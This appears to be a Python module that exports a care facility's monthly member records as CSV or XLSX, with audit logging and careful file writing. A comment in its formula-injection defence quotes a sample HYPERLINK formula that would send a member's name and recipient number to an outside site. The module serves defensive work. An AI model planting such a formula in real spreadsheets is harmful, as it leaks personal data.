"""Use case: the monthly records a city may ask for, as CSV (UTF-8 with BOM) or XLSX.

Four tables (columns documented in docs/exports.md): 日報, 支援記録, 在宅就労支援対象者リスト
(様式在-1) and 評価シート. Dates are 和暦 on the city's forms (様式在-1, 評価シート) and ISO
elsewhere. Every export leaves an audit_log row: records are evidence and who took a copy is
part of the record.
"""

from __future__ import annotations

import csv
import io
import os
import re
import tempfile
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import date, datetime, time
from pathlib import Path
from zoneinfo import ZoneInfo

from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession

from bot import compliance
from bot.admin import AdminError, audit
from bot.compliance_report import facility_members, member_facts
from bot.wareki import wareki_date, wareki_month
from storage.models import (
    DailyReport,
    Evaluation,
    Facility,
    Member,
    ReportRevision,
    Staff,
    SupportRecord,
)

KINDS = ("nippo", "support-records", "zaitaku-list", "eval-sheet")
FORMATS = ("csv", "xlsx")
Cell = str | int | float | date | time | None
"""A table cell. Text (`str`) is what a member or staff wrote, or built from it, and is never
trusted: `render` neutralises it. Numbers, dates and times are typed and written as such."""

MODE_LABELS = {"zaitaku": "在宅", "tsusho": "通所", "off": "休み"}
STATUS_LABELS = {"open": "未報告", "started": "作業中", "ended": "終了", "absent": "欠席"}
KIND_LABELS = {
    "start_check": "開始確認",
    "end_check": "終了確認",
    "absence": "欠席連絡",
    "consult": "相談",
    "correction": "修正",
    "reminder": "声かけ",
    "alert_action": "アラート対応",
    "staff_contact": "職員による連絡",
    "evaluation": "評価",
}
CHANNEL_LABELS = {
    "line": "LINE",
    "slack": "Slack",
    "console": "コンソール",
    "phone": "電話",
    "visit": "訪問",
    "tsusho": "通所",
    "message": "メッセージ",
    "video": "ビデオ",
    "ict": "ICT",
}
EVAL_KIND_LABELS = {"weekly": "週1回の評価", "monthly": "月1回の評価"}

NIPPO_HEADERS = (
    "利用者ID", "氏名", "受給者証番号", "日付", "利用形態", "状態",
    "開始時刻", "体調(開始時)", "睡眠時間", "体温", "作業予定",
    "終了時刻", "作業内容", "成果", "体調(終了時)", "ひとこと", "欠席連絡",
    "要確認", "確認者", "確認日時", "修正回数",
)  # fmt: skip
SUPPORT_HEADERS = ("利用者ID", "氏名", "日付", "時刻", "種別", "手段", "職員", "内容")
ZAITAKU_HEADERS = (
    "対象月", "氏名", "受給者証番号", "支給決定市町村", "在宅利用日数", "通所日数",
    "評価実施日", "在宅利用の承認期間",
)  # fmt: skip
EVAL_HEADERS = (
    "利用者ID", "氏名", "受給者証番号", "実施日", "評価の種類", "実施方法", "評価者",
    "訓練目標", "取組内容", "達成度", "課題", "改善方針", "健康面・体調面の留意事項",
    "在宅就労継続の妥当性", "月の評価を兼ねる",
)  # fmt: skip


@dataclass(frozen=True)
class Table:
    title: str
    headers: tuple[str, ...]
    rows: list[tuple[Cell, ...]]


def parse_month(text: str) -> date:
    try:
        year, month = text.split("-")
        return date(int(year), int(month), 1)
    except ValueError as exc:
        raise AdminError(f"months are YYYY-MM, not {text!r}") from exc


async def build(
    session: AsyncSession, facility: Facility, kind: str, month: date, member: Member | None
) -> Table:
    if kind not in KINDS:
        raise AdminError(f"unknown export {kind!r}; choose one of {', '.join(KINDS)}")
    first, last = compliance.month_days(month)
    members = (
        [member] if member else list(await facility_members(session, facility, active_only=False))
    )
    tz = ZoneInfo(facility.tz)
    if kind == "nippo":
        return await _nippo(session, members, first, last, tz)
    if kind == "support-records":
        return await _support(session, members, first, last, tz)
    if kind == "zaitaku-list":
        return await _zaitaku_list(session, facility, members, first)
    return await _eval_sheet(session, members, first, last)


async def _staff_names(session: AsyncSession, ids: set[int | None]) -> dict[int, str]:
    wanted = [i for i in ids if i is not None]
    if not wanted:
        return {}
    rows = (await session.execute(select(Staff.id, Staff.name).where(Staff.id.in_(wanted)))).all()
    return {int(r[0]): str(r[1]) for r in rows}


def _hm(at: datetime | None, tz: ZoneInfo) -> time | None:
    return at.astimezone(tz).time().replace(second=0, microsecond=0) if at else None


def _num(v: float | int | None) -> int | float | None:
    """A whole number as an int (睡眠 7.0 → 7, as `:g` showed it), otherwise as it is."""
    if v is None:
        return None
    return int(v) if float(v).is_integer() else v


async def _nippo(
    session: AsyncSession, members: Sequence[Member], first: date, last: date, tz: ZoneInfo
) -> Table:
    by_id = {m.id: m for m in members}
    reports = (
        (
            await session.execute(
                select(DailyReport)
                .where(
                    DailyReport.member_id.in_(by_id), DailyReport.business_date.between(first, last)
                )
                .order_by(DailyReport.member_id, DailyReport.business_date)
            )
        )
        .scalars()
        .all()
    )
    corrections = await session.execute(
        select(ReportRevision.report_id, func.count())
        .where(
            ReportRevision.report_id.in_([r.id for r in reports]),
            ReportRevision.source.in_(("member_correction", "staff_edit")),
        )
        .group_by(ReportRevision.report_id)
    )
    counts = {int(rid): int(n) for rid, n in corrections.all()}
    signers = await _staff_names(session, {r.signed_off_by for r in reports})
    rows: list[tuple[Cell, ...]] = []
    for r in reports:
        m = by_id[r.member_id]
        rows.append(
            (
                m.id,
                m.name,
                m.recipient_no,
                r.business_date,
                MODE_LABELS.get(r.mode, r.mode),
                STATUS_LABELS.get(r.status, r.status),
                _hm(r.start_at, tz),
                _num(r.health_start),
                _num(r.sleep_hours),
                _num(r.temperature),
                r.planned_work,
                _hm(r.end_at, tz),
                r.work_done,
                r.outputs,
                _num(r.health_end),
                r.note,
                r.absence_note,
                "、".join(sorted(r.flags)) if r.flags else None,
                signers.get(r.signed_off_by or 0),
                r.signed_off_at.astimezone(tz).isoformat(timespec="minutes")
                if r.signed_off_at
                else None,
                int(counts.get(r.id, 0)),
            )
        )
    return Table("日報", NIPPO_HEADERS, rows)


async def _support(
    session: AsyncSession, members: Sequence[Member], first: date, last: date, tz: ZoneInfo
) -> Table:
    by_id = {m.id: m for m in members}
    records = (
        (
            await session.execute(
                select(SupportRecord)
                .where(
                    SupportRecord.member_id.in_(by_id),
                    SupportRecord.business_date.between(first, last),
                )
                .order_by(SupportRecord.member_id, SupportRecord.at, SupportRecord.id)
            )
        )
        .scalars()
        .all()
    )
    staff = await _staff_names(session, {s.staff_id for s in records})
    rows: list[tuple[Cell, ...]] = [
        (
            s.member_id,
            by_id[s.member_id].name,
            s.business_date,
            _hm(s.at, tz),
            KIND_LABELS.get(s.kind, s.kind),
            CHANNEL_LABELS.get(s.channel, s.channel),
            staff.get(s.staff_id or 0),
            s.content,
        )
        for s in records
    ]
    return Table("支援記録", SUPPORT_HEADERS, rows)


async def _zaitaku_list(
    session: AsyncSession, facility: Facility, members: Sequence[Member], first: date
) -> Table:
    """様式在-1: one row per 在宅 user of the month (the profile's city only, if it has one)."""
    profile = compliance.profile(facility.profile)
    start, end = compliance.fact_window(first)
    facts = await member_facts(session, members, start, end)
    view = compliance.evaluate_month(profile, first, facts, facility.capacity)
    _, last = compliance.month_days(first)
    by_id = {m.id: m for m in members}
    rows: list[tuple[Cell, ...]] = []
    for f, result in zip(facts, view.members, strict=True):
        m = by_id[f.member_id]
        if not compliance.is_zaitaku_user(first, f) or not result.rules_apply:
            continue
        evals = sorted({e.day for e in f.evaluations if first <= e.day <= last})
        period = (
            f"{wareki_date(m.approval_from) if m.approval_from else ''}〜"
            f"{wareki_date(m.approval_until) if m.approval_until else ''}"
            if m.approval_from or m.approval_until
            else None
        )
        rows.append(
            (
                wareki_month(first),
                m.name,
                m.recipient_no,
                m.municipality,
                len(result.zaitaku_days),
                len(result.tsusho_days),
                "、".join(wareki_date(d) for d in evals) or None,
                period,
            )
        )
    return Table("在宅就労支援対象者リスト", ZAITAKU_HEADERS, rows)


async def _eval_sheet(
    session: AsyncSession, members: Sequence[Member], first: date, last: date
) -> Table:
    by_id = {m.id: m for m in members}
    evaluations = (
        (
            await session.execute(
                select(Evaluation)
                .where(Evaluation.member_id.in_(by_id), Evaluation.date.between(first, last))
                .order_by(Evaluation.member_id, Evaluation.date, Evaluation.id)
            )
        )
        .scalars()
        .all()
    )
    staff = await _staff_names(session, {e.staff_id for e in evaluations})
    rows: list[tuple[Cell, ...]] = []
    for e in evaluations:
        m = by_id[e.member_id]
        rows.append(
            (
                m.id,
                m.name,
                m.recipient_no,
                wareki_date(e.date),
                EVAL_KIND_LABELS.get(e.kind, e.kind),
                CHANNEL_LABELS.get(e.method, e.method),
                staff.get(e.staff_id or 0),
                e.goal,
                e.activities,
                e.achievement,
                e.issues,
                e.plan,
                e.health_notes,
                e.continuation,
                "はい" if e.kind == "monthly" or e.counts_as_monthly else "いいえ",
            )
        )
    return Table("評価シート", EVAL_HEADERS, rows)


# --- file formats --------------------------------------------------------------------------

# Formula injection (CSV injection, OWASP): a spreadsheet runs a cell that begins with one of
# these as a formula, so `=HYPERLINK("http://…"&B2&C2,"詳細")` typed by a member would send
# the row's 氏名 and 受給者証番号 away when clicked. Excel also reads the full-width forms
# (＝＋－＠) and skips leading blanks. TAB and CR are on OWASP's list as well.
FORMULA_TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
SAFE_PREFIX = "'"
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")  # not allowed in XLSX XML


def neutralise(value: Cell) -> Cell:
    """A text cell that a spreadsheet would read as a formula, with a leading `'`.

    Applies to every `str`, wherever it came from (a text "-5" is text); ints, floats, dates
    and times are returned as they are (a negative number stays a number). Idempotent.
    """
    if not isinstance(value, str) or not value:
        return value
    if value[0] in FORMULA_TRIGGERS or value.lstrip()[:1] in FORMULA_TRIGGERS:
        return SAFE_PREFIX + value
    return value


def neutralised(table: Table) -> Table:
    """The table with every text cell (title, headers, rows) neutralised."""
    return Table(
        str(neutralise(table.title)),
        tuple(str(neutralise(h)) for h in table.headers),
        [tuple(neutralise(c) for c in row) for row in table.rows],
    )


def _csv_text(value: Cell) -> str:
    if value is None:
        return ""
    if isinstance(value, float):
        return f"{value:g}"
    if isinstance(value, time):
        return value.strftime("%H:%M")
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


def _write_csv(table: Table) -> bytes:
    """UTF-8 with a BOM, so that Excel in Japan opens it without mojibake."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(table.headers)
    writer.writerows([_csv_text(c) for c in row] for row in table.rows)
    return out.getvalue().encode("utf-8-sig")


def _write_xlsx(table: Table) -> bytes:
    from openpyxl import Workbook
    from openpyxl.styles import Font

    wb = Workbook()
    ws = wb.active
    ws.title = table.title[:31]
    for r, values in enumerate((table.headers, *table.rows), start=1):
        for c, value in enumerate(values, start=1):
            cell = ws.cell(row=r, column=c)
            if isinstance(value, str):
                cell.value = _XLSX_ILLEGAL.sub("", value)
                cell.data_type = "s"  # text is a string, never a formula ("=…") or error ("#…")
            elif value is not None:
                cell.value = value
                if isinstance(value, time):
                    cell.number_format = "hh:mm"
                elif isinstance(value, date):
                    cell.number_format = "yyyy-mm-dd"
    for cell in ws[1]:
        cell.font = Font(bold=True)
    ws.freeze_panes = "A2"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def render(table: Table, fmt: str) -> bytes:
    """The one way a Table becomes a file: its text is neutralised here, for every kind."""
    if fmt not in FORMATS:
        raise AdminError(f"unknown format {fmt!r}; choose csv or xlsx")
    safe = neutralised(table)
    return _write_csv(safe) if fmt == "csv" else _write_xlsx(safe)


def to_csv(table: Table) -> bytes:
    return render(table, "csv")


def to_xlsx(table: Table) -> bytes:
    return render(table, "xlsx")


def filename(kind: str, month: date, member: Member | None, fmt: str) -> str:
    who = f"-member{member.id}" if member else ""
    return f"{kind}-{month:%Y-%m}{who}.{fmt}"


# --- writing the file (`nippo export --out`) -----------------------------------------------

# One line each for staff; the CLI prints them after "error: " and exits 2.
OUT_IS_SYMLINK = (
    "出力先 {path} はシンボリックリンクなので書き込みません。別のファイル名を指定してください。"
)
OUT_EXISTS = "出力先 {path} はすでにあります。上書きするときは --force を付けてください。"
OUT_NOT_A_FILE = "出力先 {path} はファイルではありません。別のファイル名を指定してください。"
OUT_UNWRITABLE = "出力先 {path} に書き込めません({reason})。"


def check_target(path: Path, *, force: bool) -> None:
    """Refuse a symlink (even with --force), a directory, and an existing file without force."""
    if path.is_symlink():
        raise AdminError(OUT_IS_SYMLINK.format(path=path))
    if path.exists():
        if not path.is_file():
            raise AdminError(OUT_NOT_A_FILE.format(path=path))
        if not force:
            raise AdminError(OUT_EXISTS.format(path=path))


def write_file(path: Path, data: bytes, *, force: bool = False) -> None:
    """Write an export readable by its owner only (0600): records name members.

    A new file is created with O_EXCL (and O_NOFOLLOW), so a symlink or file that appears
    after the check is refused too. With `force` an existing regular file is replaced by
    renaming a fresh 0600 file over it: the old file's mode and any other hard link to it are
    left alone, and a symlink put there meanwhile is replaced, never followed.
    """
    check_target(path, force=force)
    try:
        if not path.exists():
            flags = os.O_WRONLY | os.O_CREAT | os.O_EXCL | getattr(os, "O_NOFOLLOW", 0)
            try:
                fd = os.open(path, flags | getattr(os, "O_BINARY", 0), 0o600)
            except FileExistsError:
                check_target(path, force=False)  # appeared meanwhile: say what it is
                raise
            try:
                with os.fdopen(fd, "wb") as fh:
                    fh.write(data)
            except BaseException:
                path.unlink(missing_ok=True)  # no half-written export left behind
                raise
            return
        fd, tmp = tempfile.mkstemp(dir=path.parent, prefix=f".{path.name}.", suffix=".tmp")
        try:
            with os.fdopen(fd, "wb") as fh:
                fh.write(data)
            os.replace(tmp, path)
        except BaseException:
            Path(tmp).unlink(missing_ok=True)
            raise
    except OSError as exc:
        if isinstance(exc, FileNotFoundError):
            reason = "フォルダがありません"
        elif isinstance(exc, PermissionError):
            reason = "書き込む権限がありません"
        else:
            reason = exc.strerror or type(exc).__name__
        raise AdminError(OUT_UNWRITABLE.format(path=path, reason=reason)) from exc


async def export(
    session: AsyncSession,
    facility: Facility,
    kind: str,
    month: date,
    *,
    fmt: str,
    now: datetime,
    actor: str,
    member: Member | None = None,
) -> tuple[Table, bytes]:
    """Build one export and record who took it in the audit log."""
    if fmt not in FORMATS:
        raise AdminError(f"unknown format {fmt!r}; choose csv or xlsx")
    table = await build(session, facility, kind, month, member)
    data = render(table, fmt)
    await audit(
        session,
        actor=actor,
        action="export",
        target=f"{kind}:{month:%Y-%m}",
        now=now,
        facility_id=facility.id,
        member_id=member.id if member else None,
        format=fmt,
        rows=len(table.rows),
    )
    return table, data
